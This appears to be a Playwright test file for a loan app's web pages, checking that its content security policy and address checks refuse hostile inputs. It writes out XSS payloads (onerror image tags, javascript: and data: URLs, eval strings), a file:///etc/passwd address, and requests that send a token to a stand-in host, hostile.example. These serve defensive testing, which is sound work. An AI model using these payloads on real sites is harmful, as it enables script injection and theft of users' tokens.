import type { Page, Request } from '@playwright/test';

import { expect, test } from './journey';
import type { World } from './world';

const DETAIL = { productId: '3101', orderId: 'ID-174-1' };
const REFUSED = 'Terjadi kesalahan. Silakan coba lagi.';

/** Addresses that a server must not be able to send a borrower to. */
const HOSTILE = [
  'javascript:window.hostileRan=1',
  'JaVaScRiPt:window.hostileRan=1',
  ' \tjavascript:window.hostileRan=1',
  'java\nscript:window.hostileRan=1',
  'data:text/html,<script>opener.hostileRan=1</script>',
  'vbscript:msgbox(1)',
  'blob:https://hostile.example/1',
  '//hostile.example/repay',
  '\\\\hostile.example/repay',
  'https:hostile.example',
  'https://hostile.example/repay',
  'http-x://hostile.example',
  'intent://hostile.example#Intent;scheme=https;end',
  'tel:*21*0800%23',
  'file:///etc/passwd',
  'loanapp://open?url=javascript:window.hostileRan=1',
  'loanapp://open?url=https://hostile.example/',
];

async function openDetail(page: Page, world: World, orderId = DETAIL.orderId): Promise<void> {
  await page.goto(world.address('loanDetail', 'indonesia', { ...DETAIL, orderId }));
  await expect(page.getByRole('button', { name: 'Layanan Pelanggan' })).toBeVisible();
}

const hostileRan = (page: Page) => page.evaluate(() => (window as unknown as { hostileRan?: number }).hostileRan);
const refusal = (page: Page) => page.getByRole('status').getByText(REFUSED);

/** Every address beside the world's own that the page got through to; what the policy stopped got nowhere. */
function strayRequests(page: Page, world: World): readonly string[] {
  const stray: string[] = [];
  const note = (request: Request) => {
    const stopped = request.failure()?.errorText ?? '';
    if (!request.url().startsWith(`${world.front.origin}/`) && !/csp/i.test(stopped)) stray.push(`${request.url()} ${stopped}`);
  };
  page.on('requestfinished', note);
  page.on('requestfailed', note);
  page.on('popup', (popup) => stray.push(`popup ${popup.url()}`));
  return stray;
}

test('the policy of the page is in force: inline script, eval, javascript addresses, foreign scripts, frames and forms', async ({
  world,
  page,
  noise,
}) => {
  noise.expect(/Content Security Policy/);
  noise.expect(/This document requires 'Trusted/);
  noise.expect(/Creating a TrustedTypePolicy named 'mine'/);
  const stray = strayRequests(page, world);
  await openDetail(page, world);
  await page.evaluate(() => {
    // In a task of its own: what a debugger evaluates may use eval, a page may not.
    setTimeout(() => {
      const outcomes: Record<string, string> = {};
      const attempt = (name: string, run: () => unknown) => {
        try {
          run();
          outcomes[name] = 'done';
        } catch (fault) {
          outcomes[name] = (fault as Error).name;
        }
      };
      // oxlint-disable-next-line no-eval -- the policy has to refuse it
      attempt('eval', () => eval('window.hostileRan = 1'));
      // oxlint-disable-next-line typescript/no-implied-eval -- the policy has to refuse it
      attempt('function', () => (new Function('window.hostileRan = 1') as () => void)());
      // oxlint-disable-next-line typescript/no-implied-eval -- the policy has to refuse it
      attempt('timeout', () => setTimeout('window.hostileRan = 1', 0));
      attempt('inline script', () => {
        const script = document.createElement('script');
        script.textContent = 'window.hostileRan = 1';
        document.head.append(script);
      });
      attempt('innerHTML', () => {
        document.createElement('div').innerHTML = '<img src=x onerror="window.hostileRan=1">';
      });
      attempt('a policy of its own', () =>
        (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }).trustedTypes.createPolicy('mine', {}),
      );
      attempt('handler attribute', () => {
        const button = document.createElement('button');
        button.setAttribute('onclick', 'window.hostileRan=1');
        document.body.append(button);
        button.click();
        button.remove();
      });
      attempt('javascript address', () => {
        const link = document.createElement('a');
        link.href = 'javascript:window.hostileRan=1';
        document.body.append(link);
        link.click();
        link.remove();
      });
      attempt('javascript frame', () => {
        const frame = document.createElement('iframe');
        frame.src = 'javascript:parent.hostileRan=1';
        document.body.append(frame);
      });
      attempt('foreign frame', () => {
        const frame = document.createElement('iframe');
        frame.src = 'https://hostile.example/';
        document.body.append(frame);
      });
      attempt('foreign image', () => {
        new Image().src = 'https://hostile.example/pixel.png?token=1';
      });
      attempt('base', () => {
        const base = document.createElement('base');
        base.href = 'https://hostile.example/';
        document.head.append(base);
      });
      attempt('form', () => {
        const form = document.createElement('form');
        form.action = 'https://hostile.example/';
        form.method = 'post';
        document.body.append(form);
        form.submit();
      });
      (window as unknown as { outcomes: unknown }).outcomes = outcomes;
    });
  });
  const outcomes = await (
    await page.waitForFunction(() => (window as unknown as { outcomes?: Record<string, string> }).outcomes)
  ).jsonValue();
  expect(outcomes).toMatchObject({ eval: 'EvalError', function: 'EvalError', innerHTML: 'TypeError', 'a policy of its own': 'TypeError' });
  await page.waitForTimeout(500);
  const fetched = await page.evaluate(() =>
    fetch('https://hostile.example/?token=1').then(
      () => 'sent',
      () => 'refused',
    ),
  );
  expect(fetched).toBe('refused');
  expect(await hostileRan(page)).toBeUndefined();
  expect(page.url()).toContain('/loanDetail?');
  expect(stray).toEqual([]);
  expect(await page.evaluate(() => document.baseURI)).toContain(world.front.origin);
});

/** Counts what the shell reports to operations of one kind, from now on, in all documents of the page. */
async function countReports(page: Page, kind: string): Promise<() => number> {
  let count = 0;
  await page.exposeFunction('countReport', () => void (count += 1));
  await page.addInitScript((wanted) => {
    window.addEventListener('loan:report', (event) => {
      const { kind } = (event as CustomEvent<{ kind: string }>).detail;
      if (kind === wanted) (window as unknown as { countReport(): void }).countReport();
    });
  }, kind);
  return () => count;
}

test('a repay address from the server that leads elsewhere leads nowhere', async ({ world, page }) => {
  const stray = strayRequests(page, world);
  const refusals = await countReports(page, 'address-refused');
  await openDetail(page, world);
  const here = page.url();
  for (const [index, address] of HOSTILE.entries()) {
    await world.sandbox.setOrder('ID-174-1', { h5_url: address });
    const read = page.waitForResponse(/loan-details\/loan-details/);
    await page.getByRole('button', { name: 'Perbarui' }).tap();
    await (await read).finished();
    await page.getByRole('button', { name: 'Bayar Sekarang' }).tap();
    await expect.poll(refusals, address).toBe(index + 1);
    await expect(refusal(page), address).toBeVisible();
    expect(page.url(), address).toBe(here);
  }
  expect(await hostileRan(page)).toBeUndefined();
  expect(stray).toEqual([]);
});

test('the address after an application that leads elsewhere leads nowhere; the loan stays taken, once', async ({ world, page }) => {
  const stray = strayRequests(page, world);
  for (const address of ['javascript:window.hostileRan=1//http', 'https://hostile.example/loanDetail?x=1']) {
    const rule = world.front.fallSick(/loan-detail-push$/, {
      kind: 'change',
      change: (body) => withData(body, { lendDetailsUrl: address }),
    });
    await page.goto(world.address('loanConfirm', 'indonesia', { productId: '3102' }));
    const here = page.url();
    await page.getByRole('button', { name: 'Ajukan Sekarang' }).tap();
    await expect(refusal(page)).toBeVisible();
    await expect(page.getByRole('button', { name: 'Kembali ke Beranda' })).toBeVisible();
    expect(page.url()).toBe(here);
    rule.end();
  }
  expect(await hostileRan(page)).toBeUndefined();
  expect(stray).toEqual([]);
  const { orders } = await world.sandbox.state();
  expect(orders.filter(({ product_id, status, amount }) => product_id === '3102' && status === '21' && amount === 1_000_000)).toHaveLength(
    1,
  );
});

/** A reply with other data. */
function withData(body: string, data: object): string {
  const reply = JSON.parse(body) as { data: object };
  return JSON.stringify({ ...reply, data: { ...reply.data, ...data } });
}

test('an offer and an agreement that lead elsewhere lead nowhere', async ({ world, page, noise }) => {
  noise.expect(/no-such-picture/);
  const stray = strayRequests(page, world);
  await page.goto(world.address('loanDetail', 'indonesia', { productId: '3104', orderId: 'ID-999-1' }));
  const offers = page.getByRole('listitem').getByRole('button', { name: /Ajukan$/ });
  // The last one's jump address is a script.
  await offers.last().tap();
  await expect(refusal(page)).toBeVisible();
  expect(page.url()).toContain('/loanDetail?');

  world.front.fallSick(/contract-jump$/, {
    kind: 'change',
    change: (body) => withData(body, { contract_url: 'https://hostile.example/terms' }),
  });
  await page.goto(world.address('loanConfirm', 'indonesia', { productId: '3101' }));
  await page.getByRole('button', { name: 'Perjanjian Pinjaman' }).tap();
  await expect(refusal(page)).toBeVisible();
  expect(page.url()).toContain('/loanConfirm?');
  expect(await hostileRan(page)).toBeUndefined();
  expect(stray).toEqual([]);
});

test('an agreement frame that leads elsewhere is not shown, and cannot be agreed to', async ({ world, page }) => {
  const stray = strayRequests(page, world);
  for (const address of ['https://hostile.example/terms', 'javascript:parent.hostileRan=1', 'data:text/html,<p>terms</p>']) {
    const rule = world.front.fallSick(/loan-detail-confirm$/, {
      kind: 'change',
      change: (body) => withData(body, { popAgreementUrl: address }),
    });
    await page.goto(world.address('loanConfirm', 'indonesia', { productId: '3101' }));
    await page.getByRole('button', { name: 'Ajukan Sekarang' }).tap();
    const dialog = page.getByRole('dialog');
    await expect(dialog.getByText('Perjanjian gagal dibuka.')).toBeVisible();
    await expect(dialog.getByRole('button', { name: 'Agree' })).toHaveCount(0);
    await expect(page.locator('iframe')).toHaveCount(0);
    rule.end();
  }
  expect(await hostileRan(page)).toBeUndefined();
  expect(await world.sandbox.requests('loanPush')).toEqual([]);
  expect(stray).toEqual([]);
});

for (const [market, productId, apply, intro] of [
  ['indonesia', '3103', 'Ajukan Sekarang', 'Dengan mengajukan, Anda menyetujui ketentuan berikut:'],
  ['india', '9103', 'Apply now', 'By applying you accept these terms:'],
] as const) {
  test(`hostile markup in an agreement is harmless, its words stay: ${market}`, async ({ world, page, noise }) => {
    // The attack is seen, and reported; ordinary markup is not (borrower.spec).
    noise.expect(/Executing inline event handler violates/);
    const stray = strayRequests(page, world);
    await page.goto(world.address('loanConfirm', market, { productId }));
    await page.getByRole('button', { name: apply }).tap();
    const dialog = page.getByRole('dialog');
    await expect(dialog.getByText(intro)).toBeVisible();
    await expect(dialog.getByRole('row')).toHaveCount(3);
    const inside = await dialog.evaluate((element) => {
      const words = element.querySelector('table')?.parentElement;
      const all = Array.from(words?.querySelectorAll('*') ?? []);
      return { tags: [...new Set(all.map(({ tagName }) => tagName))].sort(), attributes: all.flatMap((each) => each.getAttributeNames()) };
    });
    expect(inside.tags.filter((tag) => !['P', 'TABLE', 'TBODY', 'TR', 'TD', 'B'].includes(tag))).toEqual([]);
    expect(inside.attributes).toEqual([]);
    // Only our own frame, without access to this page.
    await expect(dialog.locator('iframe')).toHaveCount(1);
    await expect(dialog.locator('iframe')).toHaveAttribute('sandbox', 'allow-scripts');
    expect(await hostileRan(page)).toBeUndefined();
    expect(stray).toEqual([]);
  });
}

test('a hostile query is words at most', async ({ world, page }) => {
  const stray = strayRequests(page, world);
  await page.goto(
    world.address('loanDetail', 'indonesia', {
      productId: '"><img src=x onerror=window.hostileRan=1>',
      orderId: '__proto__',
      type: 'constructor',
      market: '<script>window.hostileRan=1</script>',
    }),
  );
  await expect(page.getByRole('button', { name: 'Muat Ulang' })).toBeVisible();
  await page.goto(world.address('repayOrNot', 'indonesia', { ...DETAIL, amount: '1e9', display: 'javascript:1' }));
  await expect(page.getByText('Nominal tidak valid.')).toBeVisible();
  expect(await hostileRan(page)).toBeUndefined();
  expect(await page.evaluate(() => Object.keys(Object.prototype))).toEqual([]);
  expect(await world.sandbox.requests('virtualAccount')).toEqual([]);
  expect(stray).toEqual([]);
});
